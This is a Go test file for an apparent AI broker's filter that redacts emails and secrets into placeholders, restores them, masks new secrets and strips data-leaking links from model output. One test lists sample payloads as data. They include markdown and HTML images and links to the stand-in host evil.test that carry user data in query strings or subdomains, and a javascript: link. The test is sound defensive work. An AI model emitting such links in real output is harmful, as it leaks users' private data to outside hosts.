package filters

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/airlock-broker/airlock/broker"
)

// inputSession scans a user message and returns the session and the
// sanitized text.
func inputSession(t *testing.T, s *Scanner, text string) (*Session, string) {
	t.Helper()
	p := &broker.CreateMessageParams{Messages: []broker.SamplingMessage{userText(text)}}
	sess, err := s.Input(context.Background(), "srv", p)
	if err != nil {
		t.Fatal(err)
	}
	return sess.(*Session), p.Messages[0].Content[0].Text
}

func outputText(t *testing.T, sess *Session, text string) (string, error) {
	t.Helper()
	r := &broker.CreateMessageResult{Content: []broker.Content{broker.TextContent(text)}}
	err := sess.Output(context.Background(), r)
	return r.Content[0].Text, err
}

func TestRestoreToleratesMangling(t *testing.T) {
	s := newTestScanner(t, Policy{})
	sess, sanitized := inputSession(t, s, "reach gina@corp.example")
	if sanitized != "reach [EMAIL_1]" {
		t.Fatalf("sanitized = %q", sanitized)
	}
	const v = "gina@corp.example"
	tests := []struct{ in, want string }{
		{"[EMAIL_1]", v},
		{"[email_1]", v},
		{"[ EMAIL_1 ]", v},
		{"[EMAIL 1]", v},
		{"[Email-1]", v},
		{"[EMAIL1]", v},
		{"EMAIL_1", v},
		{"EMAIL 1.", v + "."},
		{"<EMAIL_1>", v},
		{"{EMAIL_1}", v},
		{"(EMAIL_1)", v},
		{`\[EMAIL\_1\]`, v},
		{"to:[EMAIL_1],", "to:" + v + ","},
		{"[EMAIL_1][EMAIL_1]", v + v},
		// Left alone.
		{"email_1", "email_1"},
		{"MY_EMAIL_1", "MY_EMAIL_1"},
		{"EMAIL_1x", "EMAIL_1x"},
		{"[EMAIL_2]", "[EMAIL_2]"},
		{"[EMAIL_01]", "[EMAIL_01]"},
		{"[PHONE_1]", "[PHONE_1]"},
		{"(EMAIL_1", v}, // bare form after an unmatched bracket
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got, err := outputText(t, sess, tt.in)
			if err != nil {
				t.Fatal(err)
			}
			if tt.in == "(EMAIL_1" {
				tt.want = "(" + v
			}
			if got != tt.want {
				t.Errorf("Output(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
	for _, f := range sess.Findings() {
		if f.Stage == stageOutput {
			t.Errorf("restored value reported as new output: %+v", f)
		}
	}
}

func TestPlaceholdersDoNotCrossRequests(t *testing.T) {
	s := newTestScanner(t, Policy{})
	a, _ := inputSession(t, s, "A is hank@corp.example")
	b, _ := inputSession(t, s, "B is ivy@corp.example")
	got, err := outputText(t, b, "answer [EMAIL_1] and [EMAIL_2]")
	if err != nil {
		t.Fatal(err)
	}
	if want := "answer ivy@corp.example and [EMAIL_2]"; got != want {
		t.Errorf("session B output = %q, want %q", got, want)
	}
	got, _ = outputText(t, a, "answer [EMAIL_1]")
	if want := "answer hank@corp.example"; got != want {
		t.Errorf("session A output = %q, want %q", got, want)
	}
}

func TestExistingPlaceholdersAreReserved(t *testing.T) {
	s := newTestScanner(t, Policy{})
	sess, sanitized := inputSession(t, s, "template [EMAIL_1] vs real jo@corp.example")
	if want := "template [EMAIL_1] vs real [EMAIL_2]"; sanitized != want {
		t.Fatalf("sanitized = %q, want %q", sanitized, want)
	}
	got, _ := outputText(t, sess, sanitized)
	if want := "template [EMAIL_1] vs real jo@corp.example"; got != want {
		t.Errorf("restored = %q, want %q", got, want)
	}
}

func TestRestoreIntoToolInputEscapesJSON(t *testing.T) {
	s := newTestScanner(t, Policy{})
	secret := `Tr0ub"4dor\&3x!`
	sess, sanitized := inputSession(t, s, "DB_PASSWORD='"+secret+"'")
	if sanitized != "DB_PASSWORD='[SECRET_1]'" {
		t.Fatalf("sanitized = %q", sanitized)
	}
	r := &broker.CreateMessageResult{Content: []broker.Content{{
		Type: broker.ContentToolUse, ID: "c1", Name: "connect",
		Input: json.RawMessage(`{"password": "[SECRET_1]", "note": "pw is [ secret_1 ]", "[SECRET_1]": 1}`),
	}}}
	if err := sess.Output(context.Background(), r); err != nil {
		t.Fatal(err)
	}
	var got map[string]any
	if err := json.Unmarshal(r.Content[0].Input, &got); err != nil {
		t.Fatalf("restored input is not JSON: %v: %s", err, r.Content[0].Input)
	}
	want := map[string]any{"password": secret, "note": "pw is " + secret, secret: 1.0}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("restored input (-want +got):\n%s", diff)
	}
}

func TestOutputModeration(t *testing.T) {
	newKey := "ghp_" + tok(7, csAlnum, 36)
	tests := []struct {
		name     string
		policy   Policy
		input    string
		output   string
		want     string
		findings []string // output rules
		err      broker.Reason
	}{
		{"new secret masked", Policy{}, "hi", "use " + newKey, "use ****", []string{"github-token"}, ""},
		{"new email masked", Policy{}, "hi", "mail kim@corp.example", "mail ****", []string{"email"}, ""},
		{"restored not masked", Policy{}, "mail kim@corp.example", "ok [EMAIL_1]", "ok kim@corp.example", nil, ""},
		{"allowed input echoed", Policy{PII: ActionAllow}, "mail kim@corp.example", "ok kim@corp.example", "ok kim@corp.example", nil, ""},
		{"hash", Policy{OutputSecrets: ActionHash}, "hi", "use " + newKey, "use [SECRET:" + hashOf(newKey) + "]", []string{"github-token"}, ""},
		{"allow reports", Policy{OutputPII: ActionAllow}, "hi", "mail kim@corp.example", "mail kim@corp.example", []string{"email"}, ""},
		{"rule allow applies to output", Policy{Rules: map[string]Action{"email": ActionAllow}}, "hi", "kim@corp.example", "kim@corp.example", []string{"email"}, ""},
		{"rule off applies to output", Policy{Rules: map[string]Action{"email": ActionOff}}, "hi", "kim@corp.example", "kim@corp.example", nil, ""},
		{"block", Policy{OutputSecrets: ActionBlock}, "hi", "use " + newKey, "use ****", []string{"github-token"}, broker.ReasonOutputBlocked},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newTestScanner(t, tt.policy)
			sess, _ := inputSession(t, s, tt.input)
			got, err := outputText(t, sess, tt.output)
			if r := broker.ErrorReason(err); r != tt.err {
				t.Errorf("error reason = %q, want %q", r, tt.err)
			}
			if got != tt.want {
				t.Errorf("output = %q, want %q", got, tt.want)
			}
			var rules []string
			for _, f := range sess.Findings() {
				if f.Stage == stageOutput {
					rules = append(rules, f.Rule)
				}
			}
			if diff := cmp.Diff(tt.findings, rules); diff != "" {
				t.Errorf("output findings (-want +got):\n%s", diff)
			}
		})
	}
}

func TestOutputRemovesExfiltratingLinks(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
		rule string
	}{
		{"image with query", "Done ![logo](https://evil.test/p.png?d=[EMAIL_1]) ok", "Done logo ok", "markdown-image"},
		{"link with query", "see [here](https://evil.test/x?q=1 \"t\")", "see here", "markdown-link"},
		{"long path", "[a](https://evil.test/" + strings.Repeat("ab", 40) + ")", "a", "markdown-link"},
		{"long segment", "![](http://evil.test/aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8)", "", "markdown-image"},
		{"dns exfil", "![x](https://aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8.evil.test/a.png)", "x", "markdown-image"},
		{"reference style", "Look ![x][1] here\n\n[1]: https://evil.test/i.png?c=secret\n", "Look x here\n\n", "reference-link"},
		{"html img", `a <img src="https://evil.test/p?d=1" alt="x"> b`, "a  b", "html-resource"},
		{"html link", `<a href='https://evil.test/?q=1'>click</a>`, "click", "html-link"},
		{"javascript", "[x](javascript:alert(1))", "x)", "markdown-link"},
		{"allowlisted host", "![c](https://cdn.ok.test/c.png?v=2)", "![c](https://cdn.ok.test/c.png?v=2)", ""},
		{"no data", "[docs](https://evil.test/docs/intro)", "[docs](https://evil.test/docs/intro)", ""},
		{"relative", "![a](/img/a.png?x=1)", "![a](/img/a.png?x=1)", ""},
	}
	s := newTestScanner(t, Policy{LinkHosts: []string{"*.ok.test"}, PII: ActionAllow})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sess, _ := inputSession(t, s, "hi")
			got, err := outputText(t, sess, tt.in)
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("output = %q, want %q", got, tt.want)
			}
			rule := ""
			for _, f := range sess.Findings() {
				if f.Type == TypeLink {
					rule = f.Rule
				}
			}
			if rule != tt.rule {
				t.Errorf("link finding = %q, want %q", rule, tt.rule)
			}
		})
	}
}

type fakeModerator struct {
	ModerateFn func(ctx context.Context, server, text string) (string, []broker.Finding, error)
}

func (f *fakeModerator) Moderate(ctx context.Context, server, text string) (string, []broker.Finding, error) {
	return f.ModerateFn(ctx, server, text)
}

var _ Moderator = (*fakeModerator)(nil)

func TestModeratorExtensionPoint(t *testing.T) {
	m := &fakeModerator{ModerateFn: func(_ context.Context, server, text string) (string, []broker.Finding, error) {
		if strings.Contains(text, "canary-42") {
			return text, []broker.Finding{{Type: "canary", Rule: "canary", Action: "block", Confidence: 1}}, nil
		}
		return text, nil, nil
	}}
	s := New(Options{FingerprintKey: testKey, Moderators: []Moderator{m}})
	sess, _ := inputSession(t, s, "hi")
	if _, err := outputText(t, sess, "all fine"); err != nil {
		t.Errorf("clean output: %v", err)
	}
	if _, err := outputText(t, sess, "leaked canary-42"); broker.ErrorReason(err) != broker.ReasonOutputBlocked {
		t.Errorf("canary output: err = %v, want output_blocked", err)
	}
}

func TestPlaceholderGivenThenFoundIsNotRestored(t *testing.T) {
	s := newTestScanner(t, Policy{})
	p := &broker.CreateMessageParams{Messages: []broker.SamplingMessage{
		userText("mail lou@corp.example"),
		userText("the template says [EMAIL_1]"),
	}}
	sess, err := s.Input(context.Background(), "srv", p)
	if err != nil {
		t.Fatal(err)
	}
	if got := p.Messages[0].Content[0].Text; got != "mail [EMAIL_1]" {
		t.Fatalf("sanitized = %q", got)
	}
	// [EMAIL_1] now names two things; restoring either would be a guess.
	got, _ := outputText(t, sess.(*Session), "reply to [EMAIL_1]")
	if want := "reply to [EMAIL_1]"; got != want {
		t.Errorf("output = %q, want %q", got, want)
	}
}

func TestConcurrentUse(t *testing.T) {
	s := newTestScanner(t, Policy{})
	text := benchCorpus(8 << 10)
	want, _ := s.ScanText("srv", text)
	done := make(chan string)
	for range 8 {
		go func() {
			got, _ := s.ScanText("srv", text)
			done <- got
		}()
	}
	for range 8 {
		if got := <-done; got != want {
			t.Error("concurrent ScanText results differ")
		}
	}
}
